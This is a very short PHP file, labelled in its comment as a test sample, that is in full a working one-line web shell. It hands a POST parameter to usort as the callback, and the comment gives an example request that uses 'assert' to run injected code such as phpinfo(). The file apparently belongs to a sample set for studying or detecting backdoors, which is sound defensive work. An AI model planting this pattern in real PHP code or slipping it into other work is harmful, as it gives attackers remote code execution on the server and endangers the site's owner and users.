<?php
// Test sample: usort with a comparator chosen by the request; the "array"
// contains the code, e.g. POST c=assert&d[]=phpinfo();&d[]=1
$data = (array) $_POST['d'];
@usort($data, $_POST['c']);
